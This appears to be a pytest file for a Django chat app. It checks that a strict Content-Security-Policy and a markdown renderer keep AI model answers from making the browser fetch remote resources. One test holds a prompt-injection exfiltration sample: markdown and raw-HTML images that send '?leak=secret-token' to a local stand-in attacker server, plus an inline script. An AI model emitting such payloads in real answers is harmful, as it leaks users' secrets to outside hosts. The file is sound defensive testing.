"""Model markdown cannot make the viewer's browser fetch anything: every page Django serves carries a
strict Content-Security-Policy (no inline script; images from the platform itself and data: only;
connections to itself and its WebSocket), and the web app's markdown renderer shows a remote image in a
model's answer as a link. Proven in a real Chromium: a prompt-injected answer with markdown and raw-HTML
images pointing at a local HTTP server makes no request to it, and an inline script does not run."""

from __future__ import annotations

import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest

from tests.web.test_session_flow import new_session

pytestmark = pytest.mark.django_db(transaction=True)
PIXEL = "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="


@pytest.fixture
def collector():
    """A local HTTP server standing in for an attacker's: it records every request it gets."""
    seen: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self):
            seen.append(self.path)
            self.send_response(200)
            self.send_header("Content-Type", "image/png")
            self.end_headers()

        def log_message(self, *args):
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    server.seen = seen
    yield server
    server.shutdown()


def test_every_page_django_serves_carries_a_strict_policy(client):
    for path in ("/", "/login", "/api/docs/", "/admin/login/", "/api/health", "/nowhere/at/all"):
        policy = client.get(path)["Content-Security-Policy"]
        rules = dict(part.strip().partition(" ")[::2] for part in policy.split(";"))
        assert rules["script-src"] == "'self'", path
        assert rules["img-src"] == "'self' data:", path
        assert rules["connect-src"] == "'self' ws://testserver wss://testserver", path
        assert rules["object-src"] == "'none'" and rules["default-src"] == "'self'", path


def test_a_remote_image_in_a_model_answer_makes_no_request_and_inline_script_is_blocked(
    alice, open_app, script, scripted_credential, live_worker, sessions_made, collector
):
    base = f"http://127.0.0.1:{collector.server_port}"
    answer = (
        f"Here is the chart ![chart]({base}/md.png?leak=secret-token) and a pixel ![dot]({PIXEL}).\n\n"
        f'<img src="{base}/raw.png?leak=secret-token" alt="raw"> done.'
    )
    scripted_credential(alice)
    # Twice: a session title asked of the same model may take a turn of the script first.
    script_id = script.load([[{"text": answer}], [{"text": answer}]])
    app = open_app(alice)
    page = app.page
    new_session(page, alice, f"scripted/{script_id}", sessions_made)
    page.get_by_role("textbox", name="Message").fill("show me")
    page.get_by_role("button", name="Send").click()
    markdown = page.get_by_role("log", name="Conversation").locator("article.msg.assistant .md")
    markdown.get_by_text("done.").wait_for(timeout=30_000)
    page.wait_for_load_state("networkidle")

    assert markdown.locator(f'a[href="{base}/md.png?leak=secret-token"]').inner_text() == "chart"
    assert markdown.locator(f'a[href="{base}/raw.png?leak=secret-token"]').count() == 1
    assert markdown.locator("img").count() == 1  # the data: pixel only
    assert markdown.locator("img").get_attribute("src") == PIXEL

    # Even an image the renderer let through would be refused by the policy.
    page.evaluate(f"""() => {{
        const img = document.createElement('img');
        img.src = '{base}/direct.png';
        document.body.appendChild(img);
    }}""")
    blocked = page.evaluate("""() => new Promise(resolve => {
        document.addEventListener('securitypolicyviolation', e => resolve(e.violatedDirective));
        const s = document.createElement('script');
        s.textContent = 'window.__inlineRan = true';
        document.body.appendChild(s);
    })""")
    assert blocked.startswith("script-src")
    assert page.evaluate("window.__inlineRan === undefined")
    page.wait_for_load_state("networkidle")
    assert collector.seen == []


def test_the_api_docs_and_the_admin_work_under_the_policy(open_app):
    app = open_app()
    page = app.page
    violations: list[str] = []
    page.on("console", lambda m: violations.append(m.text) if "Content Security Policy" in m.text else None)
    page.goto("/api/docs/")
    page.locator(".swagger-ui .info .title").wait_for()  # Swagger UI started: its script is a file
    page.goto("/admin/login/")
    page.get_by_label("Email").wait_for()
    assert violations == []
